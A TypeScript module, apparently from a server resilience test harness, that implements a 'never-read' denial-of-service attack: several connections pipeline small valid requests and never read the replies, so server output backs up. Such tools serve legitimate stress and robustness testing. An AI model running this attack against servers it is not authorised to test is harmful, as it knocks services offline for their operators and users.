import type { Attack } from '../attack.js';
import { AttackConnections } from '../connections.js';

export interface NeverReadOptions {
  /** Connections. Default 8. */
  readonly connections?: number;
  /** Most request bytes each sends. Default 16 MiB. */
  readonly bytesPerConnection?: number;
}

/** Bytes of requests per write: many small requests, as a pipelining client sends them. */
const BATCH_BYTES = 64 * 1024;

/**
 * Connections that send small, valid requests as fast as the server reads them and never read a
 * reply: every reply the server makes has nowhere to go.
 */
export function neverRead(options: NeverReadOptions = {}): Attack {
  const { connections = 8, bytesPerConnection = 16 * 1024 * 1024 } = options;
  return {
    name: 'never-read',
    description: `${connections} connections each send up to ${bytesPerConnection} B of small requests and never read a reply`,
    holdsConnection: true,
    start(target) {
      const attack = new AttackConnections(target.host, target.port);
      const requests: Buffer[] = [];
      let length = 0;
      for (let seq = 0; length < BATCH_BYTES; seq++) {
        requests.push(target.request(seq));
        length += requests[seq]!.length;
      }
      const batch = Buffer.concat(requests);
      for (let index = 0; index < connections; index++) {
        attack.connect((socket) => {
          socket.pause();
          let sent = 0;
          const pump = () => {
            while (!attack.done && !socket.destroyed && sent < bytesPerConnection) {
              sent += batch.length;
              if (!attack.write(socket, batch)) {
                socket.once('drain', pump);
                return;
              }
            }
          };
          pump();
        });
      }
      return { figures: () => attack.figures(), stop: () => attack.stop() };
    },
  };
}
